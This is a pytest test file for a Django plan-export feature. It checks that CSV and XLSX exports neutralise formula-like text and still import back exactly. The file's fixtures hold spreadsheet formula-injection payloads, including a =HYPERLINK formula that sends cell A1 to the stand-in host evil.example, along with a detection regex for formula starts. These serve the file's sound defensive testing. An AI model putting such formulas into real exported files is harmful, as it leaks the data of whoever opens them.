"""Every export writes formula-like text inertly, and a plan exported so imports back exactly.

The texts a partner typed are exported to anyone the plan is shown to, the public included; a
cell beginning ``=`` would run in the spreadsheet of whoever opened the file. Each export is
checked in the bytes it sends: in CSV no field begins like a formula, in XLSX every text is a
string cell (no formula, no error value) and the sheet holds no ``<f>`` element at all.
"""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from csp.importers.columns import COLUMNS
from csp.importers.export import write_csv, write_xlsx
from csp.importers.plan_import import PlanImport
from csp.importers.reader import read_rows
from csp.models import ActionLead, District, Partnership, Plan, UpdateStatus
from csp.spreadsheet_cells import MAX_XLSX_CHARS
from tests import factories as make
from tests.test_import_plan import snapshot

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1, "Details")'
HOSTILE = [HYPERLINK, "+1", "-2", "@SUM(A1)", "=1+1"]
FORMULA_START = re.compile(r"^[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n\0]")


@pytest.fixture
def hostile(public):
    """Castle (public) with formula-like text in every kind of field the exports write."""
    cast = public
    patrols = cast.patrols
    patrols.description = "=1+1"
    patrols.outcomes = "-2"
    patrols.lead_as_written = " =1+1"  # a space in front, which spreadsheets may trim
    patrols.timescale = "+1"
    patrols.due_year = patrols.due_quarter = None  # no quarter can be read from "+1"
    patrols.save()
    objective = patrols.objective
    objective.title = "@SUM(A1)"
    objective.save()
    update = patrols.updates.get()
    update.progress = HYPERLINK
    update.risks = "-"
    update.save()
    cast.hub.description = '\uff1dHYPERLINK("https://evil.example")'  # full-width equals
    cast.hub.save()
    hub_update = cast.hub.updates.get(district=cast.north)
    hub_update.progress = "\u200b=1+1"  # behind a zero-width space
    hub_update.save()
    return cast


def csv_fields(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_csv_inert(body: bytes) -> list[list[str]]:
    rows = csv_fields(body)
    for row in rows:
        for field in row:
            assert not FORMULA_START.match(field), field
    text = body.decode("utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text
    return rows


def assert_xlsx_inert(body: bytes) -> list[list[object]]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
                assert 't="e"' not in xml and 't="str"' not in xml, name
    workbook = load_workbook(io.BytesIO(body))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert not FORMULA_START.match(cell.value), cell.value
            rows.append([cell.value for cell in row])
    assert any("'" + HYPERLINK in row for row in rows)
    return rows


def body_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("member", [True, False], ids=["member", "public"])
def test_the_action_list_csv_is_inert(client, hostile, member):
    if member:
        client.force_login(hostile.alice)
    rows = assert_csv_inert(body_of(client.get("/actions/export.csv?period=2016-17-q1")))
    patrols = next(row for row in rows if row[0] == "1.1.1")
    assert patrols[3:6] == ["'@SUM(A1)", "'=1+1", "'-2"]
    assert patrols[7:9] == ["' =1+1", "'+1"]
    assert patrols[-1] == "North: -"  # the risks column: harmless behind its district


@pytest.mark.parametrize("member", [True, False], ids=["member", "public"])
def test_the_action_list_xlsx_is_inert(client, hostile, member):
    if member:
        client.force_login(hostile.alice)
    rows = assert_xlsx_inert(body_of(client.get("/actions/export.xlsx?period=2016-17-q1")))
    patrols = next(row for row in rows if row[0] == "1.1.1")
    assert patrols[3:6] == ["'@SUM(A1)", "'=1+1", "'-2"]
    assert '\'\uff1dHYPERLINK("https://evil.example")' in [row[4] for row in rows]


@pytest.mark.parametrize("member", [True, False], ids=["member", "public"])
def test_the_plan_csv_is_inert(client, hostile, member):
    if member:
        client.force_login(hostile.alice)
    url = reverse("plan-export-csv", args=[hostile.plan.slug])
    rows = assert_csv_inert(body_of(client.get(url)))
    assert [row[5] for row in rows if row[0] == "1.1.1"][:1] == ["'-2"]


@pytest.mark.parametrize("member", [True, False], ids=["member", "public"])
def test_the_plan_xlsx_is_inert(client, hostile, member):
    if member:
        client.force_login(hostile.alice)
    assert_xlsx_inert(body_of(client.get(reverse("plan-export-xlsx", args=[hostile.plan.slug]))))


def test_the_template_is_all_string_cells(client, db):
    body = body_of(client.get(reverse("plan-template")))
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all("<f>" not in archive.read(n).decode() for n in sheets)
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        assert {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None} == {
            "s"
        }


def test_a_district_named_like_a_formula_is_inert_in_the_heading(client, hostile):
    District.objects.filter(pk=hostile.south.pk).update(name="=South")
    client.force_login(hostile.alice)
    rows = csv_fields(body_of(client.get("/actions/export.csv?period=2016-17-q1")))
    assert "Update 2016/17 Q1 \N{EN DASH} =South" in rows[0]  # safe behind its words
    xlsx = assert_xlsx_inert(body_of(client.get("/actions/export.xlsx?period=2016-17-q1")))
    assert "Update 2016/17 Q1 \N{EN DASH} =South" in xlsx[0]


def test_text_a_workbook_cannot_hold_is_exported_not_a_server_error(client, hostile):
    # A progress text pasted from Word with a manual line break (vertical tab) and a stray
    # control character: openpyxl refuses both, and the export was a 500.
    update = hostile.patrols.updates.get()
    update.progress = "First line\x0bsecond line\x07"
    update.save()
    client.force_login(hostile.alice)
    rows = assert_xlsx_inert_without_hyperlink(
        body_of(client.get("/actions/export.xlsx?period=2016-17-q1"))
    )
    assert "First line\nsecond line" in [value for row in rows for value in row]
    plan = body_of(client.get(reverse("plan-export-xlsx", args=[hostile.plan.slug])))
    update_column = get_column_letter([c.key for c in COLUMNS].index("update") + 1)
    assert (
        load_workbook(io.BytesIO(plan))["Plan"][f"{update_column}2"].value
        == "First line\nsecond line"
    )


def assert_xlsx_inert_without_hyperlink(body: bytes) -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(body))
    rows = [[cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()]
    for row in workbook.worksheets[0].iter_rows():
        for cell in row:
            assert cell.value is None or cell.data_type == "s"
    return rows


def test_a_plan_title_a_workbook_cannot_hold_is_exported_not_a_server_error(client, hostile):
    # The title and partnership are the workbook's properties: lxml refused the control
    # characters there, and the plan's export was a 500.
    hostile.plan.title = "Castle Plan\x0b2016/17\x01"
    hostile.plan.version_label = "Version\x02 2"
    hostile.plan.save()
    hostile.castle.name = "Castle\x07 CSP"
    hostile.castle.save()
    body = body_of(client.get(reverse("plan-export-xlsx", args=[hostile.plan.slug])))
    properties = load_workbook(io.BytesIO(body)).properties
    assert (properties.title, properties.subject, properties.version) == (
        "Castle Plan\n2016/17",
        "Castle CSP",
        "Version 2",
    )


def test_a_very_long_formula_like_text_keeps_its_apostrophe_in_xlsx(client, hostile):
    update = hostile.patrols.updates.get()
    update.progress = "=" + "x" * (MAX_XLSX_CHARS + 10)
    update.save()
    client.force_login(hostile.alice)
    body = body_of(client.get("/actions/export.xlsx?period=2016-17-q1"))
    cells = [c for row in load_workbook(io.BytesIO(body))["Actions"].iter_rows() for c in row]
    long_cell = next(c for c in cells if isinstance(c.value, str) and c.value.startswith("'=x"))
    assert long_cell.data_type == "s"
    assert len(long_cell.value) == MAX_XLSX_CHARS
    # CSV has no such limit: the whole text, inert.
    rows = csv_fields(body_of(client.get("/actions/export.csv?period=2016-17-q1")))
    assert "'" + update.progress in [field for row in rows for field in row]


def test_a_negative_number_typed_as_text_is_written_as_text(client, hostile):
    # The exports write the texts people typed; "-3" in a progress text is text, so it is
    # neutralised like any other (numbers proper stay numbers: test_spreadsheet_cells).
    update = hostile.patrols.updates.get()
    update.progress = "-3"
    update.save()
    client.force_login(hostile.alice)
    rows = csv_fields(body_of(client.get("/actions/export.csv?period=2016-17-q1")))
    assert "'-3" in [field for row in rows for field in row]


@pytest.mark.parametrize(
    "url", ["/actions/export.csv?period=2016-17-q1", "/plans/castle-2016-17/export.csv"]
)
def test_every_csv_field_is_quoted_so_another_separator_cannot_split_out_a_formula(
    client, hostile, url
):
    # Excel in a language whose list separator is ";" splits an unquoted field at each ";".
    patrols = hostile.patrols
    patrols.description = "Evening patrols;=HYPERLINK(1);@SUM(A1)\t=1+1"
    patrols.save()
    body = body_of(client.get(url)).decode("utf-8-sig")
    assert "\n" not in "".join(hostile.patrols.updates.values_list("progress", flat=True))
    assert '"Evening patrols;=HYPERLINK(1);@SUM(A1)\t=1+1"' in body
    for line in body.splitlines():
        if line:
            assert line.startswith('"') and line.endswith('"'), line


# The round trip: exported with the apostrophes, imported without them.


def import_copy(name: str, data: bytes, original: Plan) -> Plan:
    copy = Partnership.objects.create(name="Copy", slug="copy")
    for district in original.partnership.districts.all():
        District.objects.create(partnership=copy, name=district.name, slug=district.slug)
    # Into an empty partnership the organisations are elsewhere on the site: taken only
    # when asked to, as the check page's "use the site's organisations" does.
    plan_import = PlanImport(
        copy,
        read_rows(name, data),
        plan_slug="copy-2016-17",
        plan_title="Copy",
        first_year=2016,
        use_site_organisations=True,
    )
    assert plan_import.ok, [str(p) for p in plan_import.problems]
    assert plan_import.new_organisations == []
    return plan_import.commit()


@pytest.fixture
def round_trip(hostile):
    """Every text field of the plan format holding something a spreadsheet would run."""
    organisation = make.organisation(name="@Evil Council", slug="evil-council")
    officer = make.officer(organisation, name="=Officer")
    ActionLead.objects.create(
        action=hostile.burglary, number=2, organisation=organisation, officer=officer
    )
    priority = hostile.patrols.objective.priority
    priority.title = "+Safer communities"
    priority.save()
    leaflet = hostile.leaflets.updates.get(period=hostile.q1)
    leaflet.progress = "'=already quoted by its author"
    leaflet.risks = "-2"
    leaflet.save()
    make.update(hostile.burglary, hostile.q1, UpdateStatus.ON_TRACK, progress="\t=1+1 after a tab")
    hostile.covert.description = "@SUM(A1) restricted"
    hostile.covert.save()
    return hostile


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_plan_with_formula_like_text_imports_back_exactly(round_trip, kind):
    plan = round_trip.plan
    if kind == "xlsx":
        handle = io.BytesIO()
        write_xlsx(plan, handle)
        data = handle.getvalue()
    else:
        text = io.StringIO(newline="")
        write_csv(plan, text)
        data = text.getvalue().encode("utf-8")
    imported = import_copy(f"plan.{kind}", data, plan)

    original = snapshot(plan)
    copied = snapshot(imported)
    # The importer strips the spaces round a cell, as it always has: " =1+1" comes back "=1+1".
    original["1.1.1"]["lead_as_written"] = "=1+1"
    original["2.1.2"]["updates"] = [
        (*u[:3], u[3].strip(), u[4]) for u in original["2.1.2"]["updates"]
    ]
    assert copied == original
    assert copied["1.1.1"]["description"] == "=1+1"
    assert copied["1.1.1"]["updates"][0][3] == HYPERLINK
    assert copied["1.2.1"]["updates"][0][3:] == ("'=already quoted by its author", "-2")
    assert ("evil-council", "=Officer", False) in copied["2.1.2"]["leads"]


def test_the_web_export_of_a_public_plan_imports_back_as_the_public_sees_it(client, round_trip):
    data = body_of(client.get(reverse("plan-export-csv", args=[round_trip.plan.slug])))
    imported = import_copy("plan.csv", data, round_trip.plan)
    copied = snapshot(imported)
    assert copied["1.1.1"]["updates"][0][3] == HYPERLINK
    assert all("restricted" not in action["description"] for action in copied.values())
